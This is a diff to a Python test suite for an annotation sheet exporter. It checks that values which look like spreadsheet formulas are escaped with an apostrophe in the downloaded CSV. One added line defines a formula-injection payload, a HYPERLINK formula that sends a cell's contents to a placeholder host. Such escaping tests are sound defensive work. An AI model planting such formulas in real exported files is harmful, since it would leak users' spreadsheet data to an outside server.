@@ -1,3 +1,5 @@
+import csv
+import io
 from pathlib import Path
 from typing import List
 
@@ -25,8 +27,9 @@ OVERLAPPING = AnsweredQuestion(
     passage=[MarkedText("Ada ", "right"), MarkedText("Orn", "both"), MarkedText(" built it.", "")],
     has_overlap=True,
 )
+FORMULA = '=HYPERLINK("http://host.example?"&A1)'
 HOSTILE_ITEM = AnsweredQuestion(
-    HOSTILE, HOSTILE, HOSTILE, [HOSTILE], 0, 0, [MarkedText(HOSTILE, "wrong")], False
+    HOSTILE, HOSTILE, FORMULA, [HOSTILE], 0, 0, [MarkedText(HOSTILE, "wrong")], False
 )
 SAMPLE = [OVERLAPPING, HOSTILE_ITEM]
 
@@ -63,6 +66,7 @@ class TestSheet:
         # What a person does with the page, and then what the button would download.
         script = """<script>
             document.querySelectorAll("form.card")[1].querySelectorAll("input[type=radio]")[2].click();
+            document.querySelector("input[name=note]").value = "- unclear";
             const output = document.createElement("pre");
             output.textContent = filledSheet();
             document.body.append(output);
@@ -79,6 +83,10 @@ class TestSheet:
         counts = read_sheet(tmp_path / "filled.csv")
         assert list(counts.by_class.values()) == [1, 0, 1, 0, 0, 0]
         assert counts.num_unsorted == 0
+        # A spreadsheet program would compute what begins like a formula.
+        first, second = csv.DictReader(io.StringIO(content))
+        assert (first["note"], first["prediction"]) == ("'- unclear", "Orn")
+        assert second["prediction"] == f"'{FORMULA}"
 
 
 class TestReadSheet:
